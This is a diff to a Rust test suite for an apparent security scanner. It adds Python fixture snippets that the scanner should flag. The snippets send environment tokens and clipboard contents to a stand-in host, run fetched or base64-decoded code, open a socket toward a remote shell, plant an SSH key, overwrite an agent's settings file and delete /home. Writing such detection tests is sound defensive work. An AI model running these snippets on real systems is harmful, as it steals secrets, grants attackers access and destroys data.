@@ -123,6 +123,16 @@ fn files() -> Vec<(&'static [&'static str], &'static str, Vec<u8>)> {
         (&["CHECK-08/password-archive"], "a.zip", locked_zip()),
         (&["CHECK-08/office-macros"], "a.docx", office("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\0\xff")),
         (&["CHECK-08/remote-part"], "a.docx", office("word/_rels/settings.xml.rels", template)),
+        (&["CHECK-04/credential-harvest"], "a.py", b"import os, requests\nd = {'a': os.environ['ALPHA_TOKEN'], 'b': os.environ['BETA_TOKEN']}\nrequests.post('https://collector.test', json=d)\n".to_vec()),
+        (&["CHECK-04/key-to-other-host"], "a.py", b"import os, requests\nrequests.post('https://collector.test', json={'a': os.environ['ALPHA_TOKEN']})\n".to_vec()),
+        (&["CHECK-04/private-to-network"], "a.py", b"import pyperclip, requests\nrequests.post('https://collector.test', data=pyperclip.paste())\n".to_vec()),
+        (&["CHECK-04/too-long"], "a.py", ("import os, requests\n".to_owned() + &"x = os.environ['A']\n".repeat(20_000)).into_bytes()),
+        (&["CHECK-08/code-runs-fetched"], "a.py", b"import requests\nexec(requests.get('https://cdn.test/a').text)\n".to_vec()),
+        (&["CHECK-08/code-runs-decoded"], "a.py", b"import base64\nexec(base64.b64decode('cHJpbnQoJ2hlbGxvJyk='))\n".to_vec()),
+        (&["CHECK-08/code-remote-shell"], "a.py", b"import socket, os\ns = socket.create_connection(('cdn.test', 1))\nos.dup2(s.fileno(), 0)\n".to_vec()),
+        (&["CHECK-08/code-persists"], "a.py", b"open('/home/a/.ssh/authorized_keys', 'a').write('k')\n".to_vec()),
+        (&["CHECK-08/code-changes-agent"], "a.py", b"open('/home/a/.claude/settings.json', 'w').write('{}')\n".to_vec()),
+        (&["CHECK-08/code-destroys"], "a.py", b"import shutil\nshutil.rmtree('/home')\n".to_vec()),
         (&["CHECK-08/typosquat"], "requirements.txt", b"reqests==2.0\n".to_vec()),
         (
             &["CHECK-03/agent-hook"],
@@ -241,7 +251,8 @@ fn a_page_is_fresh_and_lists_every_rule() {
 /// What an embedder builds: the package itself and all it needs, without features.
 #[test]
 fn the_scanner_embeds_with_few_crates() {
-    const MOST: usize = 45;
+    // 44 and, since code is parsed, six of tree-sitter's: docs/adr/0018-reading-code.md.
+    const MOST: usize = 50;
     let Some(cargo) = std::env::var_os("CARGO") else {
         eprintln!("skipped: there is no cargo to ask for the dependencies");
         return;
